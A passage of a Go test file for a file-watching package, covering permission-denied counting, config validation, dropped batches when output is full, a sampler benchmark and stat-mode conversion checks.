		t.Skip("running as root: permission checks do not apply")
	}
	root := t.TempDir()
	locked := filepath.Join(root, "locked")
	os.Mkdir(locked, 0o755)
	write(t, filepath.Join(locked, "f"), []byte("x"))
	os.Chmod(locked, 0)
	t.Cleanup(func() { os.Chmod(locked, 0o755) })
	w, c := start(t, fastCfg(root))
	p := filepath.Join(root, "secret")
	write(t, p, []byte("x"))
	os.Chmod(p, 0)
	write(t, filepath.Join(root, "marker"), nil)
	c.waitFor(t, "marker", has(event.FileCreate, filepath.Join(root, "marker")))
	if w.Stats().Denied == 0 {
		t.Fatalf("denied not counted: %+v", w.Stats())
	}
}

func TestRunTwiceAndBadConfig(t *testing.T) {
	if _, err := New(Config{}, nil); err == nil {
		t.Fatal("no roots accepted")
	}
	root := t.TempDir()
	if _, err := New(Config{Roots: []string{root, filepath.Join(root, "x")}}, nil); err == nil {
		t.Fatal("overlapping roots accepted")
	}
	f := filepath.Join(root, "file")
	write(t, f, nil)
	if _, err := New(Config{Roots: []string{f}}, nil); err == nil {
		t.Fatal("file root accepted")
	}
	if _, err := New(Config{Roots: []string{root}, Exclude: []string{"["}}, nil); err == nil {
		t.Fatal("bad glob accepted")
	}
	w, _ := start(t, fastCfg(root))
	for !w.started.Load() {
		time.Sleep(time.Millisecond)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	if err := w.Run(ctx, make(chan []event.File)); err == nil {
		t.Fatal("second Run accepted")
	}
}

func TestOutputDropsWhenFull(t *testing.T) {
	root := t.TempDir()
	cfg := fastCfg(root)
	cfg.BatchSize = 1
	w, err := New(cfg, nil)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	out := make(chan []event.File) // nobody reads: every batch is dropped
	done := make(chan error, 1)
	go func() { done <- w.Run(ctx, out) }()
	for i := 0; i < 20; i++ {
		write(t, filepath.Join(root, fmt.Sprintf("f%d", i)), []byte("x"))
	}
	deadline := time.Now().Add(20 * time.Second)
	for w.Stats().Dropped < 20 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	cancel()
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if s := w.Stats(); s.Dropped < 20 || s.Emitted != 0 {
		t.Fatalf("dropped %d emitted %d", s.Dropped, s.Emitted)
	}
	if _, ok := <-out; ok {
		t.Fatal("out not closed")
	}
}

// BenchmarkSampleEvent measures the per-event cost of the sampler stage
// (open beneath the root, fstat, read, statistics) on 1 KiB text files,
// without inotify or file creation.
func BenchmarkSampleEvent(b *testing.B) {
	root := b.TempDir()
	body := bytes.Repeat([]byte("ordinary text content of a small file\n"), 28)
	paths := make([]string, 256)
	for i := range paths {
		paths[i] = filepath.Join(root, fmt.Sprintf("f%03d.txt", i))
		if err := os.WriteFile(paths[i], body, 0o644); err != nil {
			b.Fatal(err)
		}
	}
	w, err := New(Config{Roots: []string{root}}, nil)
	if err != nil {
		b.Fatal(err)
	}
	defer w.fsw.Close()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		it := item{ev: event.File{Op: event.FileWrite, Path: paths[i%len(paths)]}, sample: true}
		w.fill(&it)
		if it.ev.Flags&event.FileFlagSampled == 0 {
			b.Fatal("not sampled")
		}
	}
}

// TestFileMode: the raw-descriptor sampling path converts stat modes exactly
// as os.Lstat does.
func TestFileMode(t *testing.T) {
	dir := t.TempDir()
	paths := map[string]func(p string) error{
		"file": func(p string) error { return os.WriteFile(p, nil, 0o640) },
		"exec": func(p string) error { return os.WriteFile(p, nil, 0o755) },
		"setuid": func(p string) error {
			_ = os.WriteFile(p, nil, 0o755)
			return os.Chmod(p, 0o755|os.ModeSetuid|os.ModeSetgid)
		},
		"dir":  func(p string) error { return os.Mkdir(p, 0o1777) },
		"fifo": func(p string) error { return unix.Mkfifo(p, 0o600) },
		"link": func(p string) error { return os.Symlink("file", p) },
	}
	for name, mk := range paths {
		p := filepath.Join(dir, name)
		if err := mk(p); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if name == "dir" {
			_ = os.Chmod(p, 0o777|os.ModeSticky)
		}
		fi, err := os.Lstat(p)
		if err != nil {
			t.Fatal(err)
		}
		var st unix.Stat_t
		if err := unix.Lstat(p, &st); err != nil {
			t.Fatal(err)
		}
		if got := fileMode(st.Mode); got != fi.Mode() {
			t.Errorf("%s: fileMode %v, os.Lstat %v", name, got, fi.Mode())
		}
	}
	dev, err := os.Lstat("/dev/null")
	if err == nil {
		var st unix.Stat_t
		if unix.Lstat("/dev/null", &st) == nil && fileMode(st.Mode) != dev.Mode() {
			t.Errorf("/dev/null: fileMode %v, os.Lstat %v", fileMode(st.Mode), dev.Mode())
		}
	}
}
